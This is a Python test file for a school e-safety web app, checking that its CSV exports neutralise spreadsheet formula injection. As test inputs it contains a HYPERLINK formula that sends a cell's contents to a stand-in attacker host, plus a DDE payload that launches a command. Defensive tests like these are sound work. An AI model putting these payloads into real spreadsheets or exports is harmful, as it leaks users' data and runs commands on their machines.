"""CSV exports never hand a spreadsheet a formula (CSV injection)."""

import csv
import io
import re

import pytest

import esafety
from esafety.directory import roles
from esafety.web.csvsafe import safe_cell, writer

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")'


@pytest.mark.parametrize("value", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
                                   "\t=1+1", "\r=1+1", EVIL_NAME])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value):
    out = io.StringIO()
    writer(out).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + value]


@pytest.mark.parametrize("value", ["Pip Pupil", "8B", "", "O'Neill", "a=b", "2026-09-01"])
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_even_when_negative():
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(None) is None


def test_the_agreements_download_escapes_names(headteacher, make_person, client_for):
    import datetime

    from django.utils import timezone

    from esafety.policies import actions

    make_person(roles.TEACHER, first_name=EVIL_NAME, last_name="+cmd|' /C calc'!A0",
                username="@evil", form="-1")
    document = actions.policy_document_create(actor=headteacher, school=headteacher.school,
                                              title="Staff AUP", audience=roles.AUDIENCE_STAFF)
    version = actions.policy_publish(
        actor=headteacher, document=document, number="1", text="Rules", approved_by="GB",
        approved_on=timezone.localdate(),
        review_due=timezone.localdate() + datetime.timedelta(days=300))
    actions.acceptance_record(actor=headteacher, person=headteacher, version=version,
                              decision="accepted")
    response = client_for(headteacher).get("/policies/agreements/",
                                           {"audience": roles.AUDIENCE_STAFF, "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    evil = next(row for row in rows if "@evil" in " ".join(row))
    assert evil[0].startswith("'=HYPERLINK(")
    assert evil[1] == "'@evil"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_governors_report_csv_escapes_every_cell():
    from esafety.incidents import report

    class Report:
        total, open, closed, police_referrals, median_response_hours = 1, 1, 0, 0, None

        def sections(self):
            return [("by type", [("=cmd", 1), ("+x", -1)])]

    rows = list(csv.reader(io.StringIO(report.report_csv(Report()))))
    assert ["by type", "'=cmd", "1"] in rows
    assert ["by type", "'+x", "-1"] in rows


def test_every_csv_writer_in_the_app_is_the_safe_one():
    """Outside the engine (which writes no spreadsheets), nobody calls csv.writer directly."""
    package = esafety.__path__[0]
    direct = []
    from pathlib import Path

    for path in Path(package).rglob("*.py"):
        relative = path.relative_to(package).as_posix()
        if relative.startswith("engine/") or relative == "web/csvsafe.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
            direct.append(relative)
    assert direct == []
